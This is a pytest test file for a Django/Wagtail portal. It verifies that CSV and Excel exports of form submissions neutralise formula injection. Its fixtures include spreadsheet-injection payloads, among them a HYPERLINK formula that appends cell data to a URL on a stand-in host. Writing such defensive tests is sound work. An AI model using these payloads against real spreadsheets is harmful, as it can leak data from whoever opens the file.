"""What people write into a form opens as text in an office's spreadsheet."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from portal.cms.models import FormPage, RegionPage
from portal.cms.models.form_page import FormField

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.org/?"&A1)'
DANGEROUS = [FORMULA, "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1"]


@pytest.fixture
def form(region: RegionPage) -> FormPage:
    page = FormPage(title="Frage", retention_days=30)
    page.form_fields = [
        FormField(label="=1+1", clean_name="frage", field_type="multiline", sort_order=1)
    ]
    region.add_child(instance=page)
    for answer in [*DANGEROUS, "Guten Tag", "5 - 3"]:
        FormSubmission.objects.create(page=page, form_data={"frage": answer})
    return page


def export(desk: Client, form: FormPage, kind: str) -> bytes:
    url = reverse("wagtailforms:list_submissions", args=[form.pk])
    return b"".join(desk.get(url, {"export": kind}).streaming_content)


def test_in_csv_no_cell_begins_a_formula(desk: Client, form: FormPage) -> None:
    content = export(desk, form, "csv").decode()
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert rows[0][-1] == "'=1+1"
    assert [row[-1] for row in rows[1:]] == [
        *(f"'{answer}" for answer in DANGEROUS),
        "Guten Tag",
        "5 - 3",
    ]


def test_in_a_workbook_all_cells_are_text(desk: Client, form: FormPage) -> None:
    sheet = load_workbook(io.BytesIO(export(desk, form, "xlsx"))).active
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert FORMULA in [row[-1].value for row in sheet.iter_rows(min_row=2)]
